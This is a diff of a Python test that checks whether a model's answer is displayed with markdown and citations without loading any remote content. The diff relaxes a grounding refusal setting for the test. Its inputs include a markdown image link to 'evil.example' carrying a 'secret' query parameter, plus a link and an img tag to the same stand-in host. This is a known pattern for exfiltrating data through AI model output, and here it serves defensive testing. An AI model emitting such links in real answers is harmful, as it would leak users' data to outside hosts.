@@ -62,7 +62,8 @@ def test_a_models_answer_is_shown_with_its_markdown_and_citations_but_loads_noth
         "![x](http://evil.example/?q=secret) ",
         "[click](http://evil.example) <img src=http://evil.example>",
     )
-    with ModelServer(words=words, pause=0.1) as server, serving(store, **model(server)) as url:
+    unsupported = {"ANSWER__GROUNDING__REFUSE_BELOW": "0"}  # a picture and a link are in no passage
+    with ModelServer(words=words, pause=0.1) as server, serving(store, **model(server), **unsupported) as url:
         app = tab(url)
         app.upload(TERMS)
         answer = app.ask(QUESTION)
